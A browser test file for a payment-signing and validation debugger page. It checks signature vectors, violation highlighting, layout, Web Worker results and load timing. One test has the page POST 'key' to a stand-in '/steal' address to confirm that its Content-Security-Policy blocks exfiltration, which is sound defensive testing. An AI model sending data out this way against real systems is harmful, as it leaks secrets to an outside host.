// The debugger page in headless Chromium, served by the real Caddy exactly
// as `make run` maps it (test/Caddyfile): signing the published vector,
// highlighting violations, the library in a real Web Worker, browser results
// equal to the native Go core's, screenshots, and the cold-load figures.
//
// Prints COLD_LOAD_MS=<ms> and WASM_GZIP_BYTES=<bytes> on stdout.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

import { startCaddy, freePort } from '../../../wasm/js/test/caddy.mjs';
import { golden, wasmPath } from '../../../wasm/js/test/helpers.mjs';
import { browserSkip, launch } from './browser.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const artifacts = path.join(here, 'artifacts');
const skip = browserSkip();

let caddy;
let browser;
let base;

before(async () => {
  if (skip) return;
  const port = await freePort();
  base = `http://127.0.0.1:${port}`;
  caddy = await startCaddy(path.join(here, 'Caddyfile'), { DEBUGGER_PORT: String(port) }, `${base}/debugger/`);
  browser = await launch();
  mkdirSync(artifacts, { recursive: true });
});

after(async () => {
  await browser?.close();
  await caddy?.stop();
});

async function openPage(viewport = { width: 1280, height: 900 }, b = browser) {
  const context = await b.newContext({ viewport }); // a fresh profile: empty HTTP cache
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  const requests = [];
  page.on('request', (r) => requests.push(r));
  await page.goto(`${base}/debugger/`);
  await page.waitForSelector('html[data-ready="true"]', { timeout: 30000 });
  return { context, page, errors, requests };
}

test('serves the page and kassa.wasm with the right types', { skip }, async () => {
  const wasm = await fetch(`${base}/debugger/kassa.wasm`);
  assert.equal(wasm.status, 200);
  assert.equal(wasm.headers.get('content-type'), 'application/wasm');
  const js = await fetch(`${base}/debugger/js/index.js`);
  assert.match(js.headers.get('content-type'), /javascript/);
  assert.equal((await fetch(`${base}/debugger/js/package.json`)).status, 404, 'only the browser files of wasm/js are served');
  assert.equal((await fetch(`${base}/debugger`, { redirect: 'manual' })).status, 308);
  const html = await (await fetch(`${base}/debugger/`)).text();
  assert.match(html, /Content-Security-Policy" content="[^"]*connect-src 'self'/, 'the page forbids sending anything elsewhere');
});

test('cold load figures', { skip }, async (t) => {
  // A new browser per run: V8 shares compiled modules between the contexts
  // of one browser, so only a fresh browser is really cold.
  const runs = [];
  let transfer;
  for (let i = 0; i < 3; i++) {
    const b = await launch();
    try {
      const { page, errors } = await openPage(undefined, b);
      const timing = await page.evaluate(() => globalThis.kassaDebugger.timing);
      runs.push(timing.coldLoadMs);
      transfer = timing.encodedBytes;
      assert.deepEqual(errors, []);
    } finally {
      await b.close();
    }
  }
  runs.sort((a, b) => a - b);
  const cold = Math.round(runs[1]);
  const gz = gzipSync(readFileSync(wasmPath), { level: 9 }).length;
  const raw = readFileSync(wasmPath).length;
  // Figures for the README and the report (median of three fresh contexts).
  // The test runner prefixes a child's stdout with '# ', so they also go to
  // artifacts/figures.txt, which `npm test` prints after the run (posttest).
  const figures = [`COLD_LOAD_MS=${cold}`, `WASM_GZIP_BYTES=${gz}`, `WASM_RAW_BYTES=${raw}`];
  if (transfer) figures.push(`WASM_TRANSFER_BYTES=${transfer}`);
  for (const f of figures) console.log(f);
  writeFileSync(path.join(artifacts, 'figures.txt'), figures.join('\n') + '\n');
  t.diagnostic(`cold load runs (ms): ${runs.map((r) => r.toFixed(0)).join(', ')}; gzip -9 ${gz} B; over the wire (Caddy encode gzip) ${transfer} B`);
  assert.ok(cold > 0 && cold < 15000, `cold load ${cold} ms`);
});

test('sign: dapi.check-sale with the published vector', { skip }, async () => {
  const { context, page, errors, requests } = await openPage();
  await page.selectOption('#op', 'dapi.check-sale');
  // Exactly the operation's fields, in signing order (serverCardId is optional).
  const names = await page.$$eval('#fields input', (els) => els.map((e) => e.name));
  assert.deepEqual(names, ['serialNumber', 'nonce', 'endpointId', 'invoiceId', 'serverCardId']);
  assert.match(await page.textContent('label[for="f-serverCardId"]'), /optional/);
  for (const label of names) {
    assert.equal(await page.locator(`label[for="f-${label}"]`).count(), 1, `label for ${label}`);
  }
  await page.fill('#controlKey', 'B17F59B4-A7DC-41B4-8FF9-37D986B43D20');
  await page.fill('#f-serialNumber', 'abcd');
  await page.fill('#f-nonce', '5678xyz');
  await page.fill('#f-endpointId', '1111');
  await page.fill('#f-invoiceId', 'someUuid');
  assert.equal((await page.textContent('#sig')).trim(), '6AB5507CD443DCA47A906619E53CF855956D9D64');
  assert.equal((await page.textContent('#sts')).trim(), 'abcd5678xyz1111someUuid');

  // A missing field is explained, not signed.
  await page.fill('#f-nonce', '');
  assert.equal((await page.textContent('#sig')).trim(), '—');
  assert.match(await page.textContent('#sign-message'), /nonce is required/);
  await page.fill('#f-nonce', '5678xyz');

  // Classic: lower-case hex; the key at the end of the string is masked.
  await page.selectOption('#op', 'classic.sale');
  await page.click('#fill-vector');
  assert.equal((await page.textContent('#sig')).trim(), 'c6bdd88a78834ef4b863b088827a459f039e8257');
  const sts = (await page.textContent('#sts')).trim();
  assert.ok(sts.startsWith('1111902B4FF51042john.smith@gmail.com'), sts);
  assert.ok(!sts.includes('B17F59B4'), 'the control key is masked');

  await page.selectOption('#op', 'dapi.check-sale');
  await page.screenshot({ path: path.join(artifacts, 'debugger-sign.png'), fullPage: true });

  // The page's CSP stops any attempt to send data to another origin.
  const violation = await page.evaluate(async () => {
    const seen = new Promise((r) => document.addEventListener('securitypolicyviolation', (e) => r(e.effectiveDirective), { once: true }));
    await fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'key' }).catch(() => {});
    return seen;
  });
  assert.equal(violation, 'connect-src');
  errors.splice(0); // the browser logs the blocked attempt as a console error
  assert.deepEqual(errors, []);
  // No request but the page's own static files.
  const urls = requests.map((r) => new URL(r.url()));
  for (const u of urls) {
    assert.equal(u.origin, base, `unexpected request to ${u}`);
    assert.equal(requests.find((r) => r.url() === u.href).method(), 'GET');
  }
  await context.close();
});

test('validate: violations listed and their paths highlighted', { skip }, async () => {
  const { context, page, errors } = await openPage();
  await page.selectOption('#endpoint', 'payneteasy.initiate-sale');
  assert.equal((await page.textContent('#verdict')).trim(), '✓ Valid', 'the sample is valid');
  const bad = JSON.stringify({
    consumer: { device: { serialNumber: 'SN-0001' } },
    transaction: { amountCentis: '1000', currency: 'eur' },
    session: {},
  }, null, 2);
  await page.fill('#body', bad);
  await page.waitForFunction(() => document.querySelector('#verdict').textContent.includes('violation'));
  const listed = await page.$$eval('#violations button', (bs) => bs.map((b) => b.dataset.path));
  assert.ok(listed.includes('transaction.amountCentis'), listed.join());
  assert.ok(listed.includes('transaction.currency'), listed.join());
  assert.ok(listed.includes('session.accessToken'), listed.join());
  const mark = page.locator('#backdrop mark[data-path~="transaction.amountCentis"]');
  assert.equal(await mark.count(), 1);
  assert.equal(await mark.textContent(), '"amountCentis": "1000"');
  // A missing field is marked at its parent.
  const missing = page.locator('#backdrop mark.missing[data-path~="session.accessToken"]');
  assert.equal(await missing.textContent(), '"session"');
  // The mark sits exactly over the text in the textarea (same line box).
  const [mb, tb] = await Promise.all([mark.boundingBox(), page.locator('#body').boundingBox()]);
  assert.ok(mb.y > tb.y && mb.y + mb.height < tb.y + tb.height);
  // Clicking a violation selects its text in the editor.
  await page.click('#violations button[data-path="transaction.amountCentis"]');
  const sel = await page.evaluate(() => {
    const b = document.querySelector('#body');
    return b.value.slice(b.selectionStart, b.selectionEnd);
  });
  assert.equal(sel, '"amountCentis": "1000"');
  await page.screenshot({ path: path.join(artifacts, 'debugger.png'), fullPage: true });

  // Duplicate keys are caught on the raw text and marked where they occur.
  await page.selectOption('#endpoint', 'voyado.storefront.click');
  await page.fill('#body', '{"ticket":"a",\n "ticket":"b"}');
  await page.waitForFunction(() => document.querySelector('#violations button'));
  const dup = page.locator('#backdrop mark[data-path~="ticket"]');
  assert.equal(await dup.textContent(), '"ticket"');
  assert.equal(await page.textContent('#violations .rule'), 'json');
  // Query parameters are checked too.
  await page.fill('#body', '{"ticket":"a"}');
  await page.fill('#query', 'market=SE&market=DK&customerKey=c&sessionKey=s');
  await page.waitForFunction(() => document.querySelector('#violations button[data-path="market"]'));
  assert.equal(await page.getAttribute('#query', 'aria-invalid'), 'true');
  assert.deepEqual(errors, []);
  await context.close();
});

test('phone size (375 x 812): no horizontal scrolling', { skip }, async () => {
  const { context, page, errors } = await openPage({ width: 375, height: 812 });
  await page.selectOption('#op', 'dapi.check-sale');
  await page.click('#fill-vector');
  await page.selectOption('#endpoint', 'voyado.admin.payment');
  const width = await page.evaluate(() => document.documentElement.scrollWidth);
  assert.ok(width <= 375, `page is ${width} px wide`);
  assert.equal((await page.textContent('#sig')).trim(), '6AB5507CD443DCA47A906619E53CF855956D9D64');
  await page.screenshot({ path: path.join(artifacts, 'debugger-phone.png'), fullPage: true });
  assert.deepEqual(errors, []);
  await context.close();
});

test('the package in a real Web Worker, and browser results equal the Go core', { skip }, async () => {
  const { context, page, errors } = await openPage();
  const fromWorker = await page.evaluate(() => {
    const w = new Worker('./test/worker.js', { type: 'module' });
    return new Promise((resolve, reject) => {
      w.onmessage = (e) => resolve(e.data);
      w.onerror = (e) => reject(new Error(e.message || 'worker failed'));
    });
  });
  assert.equal(fromWorker.sig, '6AB5507CD443DCA47A906619E53CF855956D9D64');
  assert.equal(fromWorker.dup.violations[0].rule, 'json');
  assert.equal(fromWorker.wasi, 'shim');
  assert.equal(fromWorker.hasDocument, false);
  assert.equal(fromWorker.hasWindow, false);

  // A sample of the golden cases (every 7th, all examples), run in the page.
  const g = golden();
  const sample = g.cases.filter((c, i) => c.example || i % 7 === 0);
  const diffs = await page.evaluate((cases) => {
    const { kassa } = globalThis.kassaDebugger;
    const enc = new TextEncoder();
    const b64 = (s) => Uint8Array.from(atob(s), (c) => c.charCodeAt(0));
    const out = [];
    for (const c of cases) {
      const got = enc.encode(kassa.raw[c.call](c.id, b64(c.input)));
      const want = b64(c.want);
      if (got.length !== want.length || got.some((x, i) => x !== want[i])) out.push(`${c.call} ${c.id} ${c.name}`);
    }
    return out;
  }, sample);
  assert.deepEqual(diffs, [], `${diffs.length} of ${sample.length} differ`);
  assert.ok(sample.length > 2000);
  assert.deepEqual(errors, []);
  await context.close();
});
